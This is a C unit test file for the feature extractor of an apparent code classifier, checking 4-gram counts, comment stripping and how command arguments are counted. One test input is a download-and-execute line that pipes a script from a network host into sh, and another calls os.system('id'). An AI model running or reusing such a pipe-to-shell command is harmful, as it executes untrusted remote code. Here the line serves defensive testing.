/*
 * Features: what of a text makes grams, that a text does not see the one before, and what a shell's
 * commands are given.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <string.h>

#include <cmocka.h>

#include "classify/features.h"

static int
begin_test(void **state)
{
	*state = calloc(1, sizeof(struct lw_features));
	return *state ? 0 : -1;
}

static int
end_test(void **state)
{
	free(*state);
	return 0;
}

static uint32_t
grams_of(struct lw_features *f, enum lw_language language, const char *text)
{
	lw_features_extract(f, language, (const uint8_t *)text, strlen(text));
	return f->gram_count;
}

static void
grams_are_four_characters_once_each(void **state)
{
	assert_int_equal(grams_of(*state, LW_LANGUAGE_SHELL, "abc"), 0);
	assert_int_equal(grams_of(*state, LW_LANGUAGE_SHELL, "abcd"), 1);
	assert_int_equal(grams_of(*state, LW_LANGUAGE_SHELL, "abcde"), 2);
	assert_int_equal(grams_of(*state, LW_LANGUAGE_SHELL, "aaaaaaaaaa"), 1);
	assert_int_equal(grams_of(*state, LW_LANGUAGE_PYTHON, "x = 'ab'"), 5);
}

static void
a_text_has_the_same_grams_whatever_came_before(void **state)
{
	static const char text[] = "import os\nos.system('id')\n";
	uint32_t first = grams_of(*state, LW_LANGUAGE_PYTHON, text);

	grams_of(*state, LW_LANGUAGE_SHELL, "curl -s http://192.0.2.7/x | sh\n");
	assert_int_equal(grams_of(*state, LW_LANGUAGE_PYTHON, text), first);
	assert_int_equal(grams_of(*state, LW_LANGUAGE_PYTHON, text), first);
}

/* Whoever hides can write as much of these as he likes. */
static void
comments_and_documentation_make_no_grams(void **state)
{
	uint32_t python = grams_of(*state, LW_LANGUAGE_PYTHON, "\nx = 1\n");
	uint32_t shell = grams_of(*state, LW_LANGUAGE_SHELL, "\nid -u\n");

	assert_int_equal(grams_of(*state, LW_LANGUAGE_PYTHON, "# of no use\nx = 1\n"), python);
	assert_int_equal(
		grams_of(*state, LW_LANGUAGE_PYTHON, "'''Of no\nuse.'''\nx = 1\n"), python);
	assert_int_equal(grams_of(*state, LW_LANGUAGE_SHELL, "# of no use\nid -u\n"), shell);
	assert_true(grams_of(*state, LW_LANGUAGE_PYTHON, "y = 'of use'\nx = 1\n") > python);
}

static void
there_are_no_more_grams_than_room(void **state)
{
	struct lw_features *f = *state;
	uint8_t *bytes = malloc(LW_FEATURE_TEXT_MAX);
	uint64_t random = 7;

	for (size_t i = 0; i < LW_FEATURE_TEXT_MAX; i++) {
		random = random * 6364136223846793005ull + 1442695040888963407ull;
		bytes[i] = 'a' + (random >> 33) % 26;
	}
	lw_features_extract(f, LW_LANGUAGE_SHELL, bytes, LW_FEATURE_TEXT_MAX);
	assert_true(f->gram_count > 1000);
	assert_true(f->gram_count <= LW_FEATURE_COUNT);
	free(bytes);
}

/* How many entries of one text are in the other, too. */
static uint32_t
shared_entries(struct lw_features *f, const char *text, const char *other)
{
	uint32_t entries[256], count, shared = 0;

	lw_features_extract(f, LW_LANGUAGE_SHELL, (const uint8_t *)other, strlen(other));
	count = f->count;
	assert_true(count <= LW_ARRAY_SIZE(entries));
	memcpy(entries, f->entries, count * sizeof(entries[0]));
	lw_features_extract(f, LW_LANGUAGE_SHELL, (const uint8_t *)text, strlen(text));
	for (uint32_t i = 0; i < f->count; i++)
		for (uint32_t k = 0; k < count; k++)
			shared += f->entries[i] == entries[k];
	return shared;
}

static void
what_a_command_is_given_counts_wherever_it_stands(void **state)
{
	uint32_t another = shared_entries(*state, "tool zeta", "tool alpha; other beta zeta");

	assert_int_equal(
		shared_entries(*state, "tool zeta", "other alpha; tool beta zeta"), another + 1);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(grams_are_four_characters_once_each),
		cmocka_unit_test(a_text_has_the_same_grams_whatever_came_before),
		cmocka_unit_test(comments_and_documentation_make_no_grams),
		cmocka_unit_test(there_are_no_more_grams_than_room),
		cmocka_unit_test(what_a_command_is_given_counts_wherever_it_stands),
	};

	return cmocka_run_group_tests_name("features", tests, begin_test, end_test);
}
